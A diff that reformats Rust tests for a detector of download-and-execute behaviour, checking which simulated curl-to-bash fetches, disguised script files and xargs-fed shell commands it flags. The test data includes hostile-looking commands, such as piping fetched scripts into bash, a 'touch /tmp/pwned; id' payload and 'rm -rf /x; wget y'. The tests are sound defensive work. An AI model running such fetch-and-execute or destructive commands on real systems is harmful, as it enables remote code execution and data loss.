@@ -9,18 +9,10 @@ const WEB: &str = "203.0.113.66:80";
 
 /// curl (pid 15) that has received something.
 fn curl(lab: &mut Lab) {
-    lab.exec_with(15, 9, &["curl", "-s", "http://x/s.sh"], |e| {
-        e.stdio[1] = pipe(5)
-    });
+    lab.exec_with(15, 9, &["curl", "-s", "http://x/s.sh"], |e| e.stdio[1] = pipe(5));
     lab.connect(15, WEB, 1);
     lab.payload(15, WEB, 1, false, b"GET /s.sh HTTP/1.1\r\n\r\n");
-    lab.payload(
-        15,
-        WEB,
-        1,
-        true,
-        b"HTTP/1.0 200 OK\r\n\r\ntouch /tmp/pwned; id\n",
-    );
+    lab.payload(15, WEB, 1, true, b"HTTP/1.0 200 OK\r\n\r\ntouch /tmp/pwned; id\n");
 }
 
 fn from_pipe(lab: &mut Lab, args: &[&str]) -> usize {
@@ -77,11 +69,7 @@ fn scripts_and_executables() {
     let mut lab = Lab::new();
     curl(&mut lab);
     lab.exec(20, 9, &["bash", "/tmp/logo3.jpg"]);
-    let mut o = open(
-        "/tmp/logo3.jpg",
-        file::FILE_TAINTED | file::FILE_SCRIPT,
-        state::TASK_SHELL,
-    );
+    let mut o = open("/tmp/logo3.jpg", file::FILE_TAINTED | file::FILE_SCRIPT, state::TASK_SHELL);
     o.origin = Some(origin(15));
     let found = lab.act(20, Body::Open(Box::new(o)));
     assert_eq!(kinds(&found), [DownloadExec]);
@@ -104,11 +92,7 @@ fn data_is_no_program() {
     assert!(lab.act(20, Body::Open(Box::new(o))).is_empty());
     // `while read …; done < <(curl …)` opens the FIFO as data; `bash <(curl …)` as its script.
     let fifo = || Box::new(open("pipe:", tainted | file::FILE_FIFO, state::TASK_SHELL));
-    lab.exec(
-        21,
-        9,
-        &["bash", "-c", "while read x; do :; done < <(curl x)"],
-    );
+    lab.exec(21, 9, &["bash", "-c", "while read x; do :; done < <(curl x)"]);
     assert!(lab.act(21, Body::Open(fifo())).is_empty());
     lab.exec(22, 9, &["bash", "/dev/fd/63"]);
     assert_eq!(kinds(&lab.act(22, Body::Open(fifo()))), [DownloadExec]);
@@ -132,16 +116,11 @@ fn package_managers_are_silent() {
     };
     assert!(run(&mut lab, 0).is_empty());
     lab.exec(15, 9, &["curl", "x"]);
-    assert!(
-        run(&mut lab, state::TASK_PACKAGE_MANAGER).is_empty(),
-        "a postinst"
-    );
+    assert!(run(&mut lab, state::TASK_PACKAGE_MANAGER).is_empty(), "a postinst");
     assert_eq!(kinds(&run(&mut lab, 0)), [DownloadExec]);
     // A dropped program of that name is none.
     lab.advance(20_000);
-    lab.exec_with(15, 9, &["/tmp/apt-get"], |e| {
-        e.task_flags = state::TASK_DRIFT
-    });
+    lab.exec_with(15, 9, &["/tmp/apt-get"], |e| e.task_flags = state::TASK_DRIFT);
     assert_eq!(kinds(&run(&mut lab, 0)), [DownloadExec]);
 }
 
@@ -152,21 +131,11 @@ fn a_runner_that_only_holds_a_connection() {
     lab.connect(15, WEB, 1);
     lab.payload(15, WEB, 1, false, b"hello");
     lab.exec(20, 15, &["bash", "-e", "/tmp/job.sh"]);
-    let mut o = open(
-        "/tmp/job.sh",
-        file::FILE_TAINTED | file::FILE_SCRIPT,
-        state::TASK_SHELL,
-    );
+    let mut o = open("/tmp/job.sh", file::FILE_TAINTED | file::FILE_SCRIPT, state::TASK_SHELL);
     o.origin = Some(origin(15));
-    assert!(
-        lab.act_for(20, Reason::DownloadExec, Body::Open(Box::new(o.clone())))
-            .is_empty()
-    );
+    assert!(lab.act_for(20, Reason::DownloadExec, Body::Open(Box::new(o.clone()))).is_empty());
     lab.payload(15, WEB, 1, true, b"touch /tmp/x");
-    assert_eq!(
-        kinds(&lab.act_for(20, Reason::DownloadExec, Body::Open(Box::new(o)))),
-        [DownloadExec]
-    );
+    assert_eq!(kinds(&lab.act_for(20, Reason::DownloadExec, Body::Open(Box::new(o)))), [DownloadExec]);
 }
 
 #[test]
@@ -187,10 +156,7 @@ fn text_as_an_argument() {
     let found = lab.exec(16, 9, &["sh", "-c", "touch /tmp/pwned; id"]);
     assert_eq!(kinds(&found), [DownloadExec]);
     assert!(found[0].alert_only);
-    assert!(
-        lab.exec(17, 9, &["sh", "-c", "echo version=1.2.3"])
-            .is_empty()
-    );
+    assert!(lab.exec(17, 9, &["sh", "-c", "echo version=1.2.3"]).is_empty());
 }
 
 #[test]
@@ -207,8 +173,5 @@ fn xargs() {
     };
     assert_eq!(run(&["xargs", "-0", "sh", "-c"], "rm -rf /x; wget y"), 1);
     assert_eq!(run(&["xargs", "-n1", "sh", "-c", "echo $0"], "echo $0"), 0);
-    assert_eq!(
-        run(&["xargs", "-I{}", "sh", "-c", "wget {}"], "wget http://a/b"),
-        0
-    );
+    assert_eq!(run(&["xargs", "-I{}", "sh", "-c", "wget {}"], "wget http://a/b"), 0);
 }
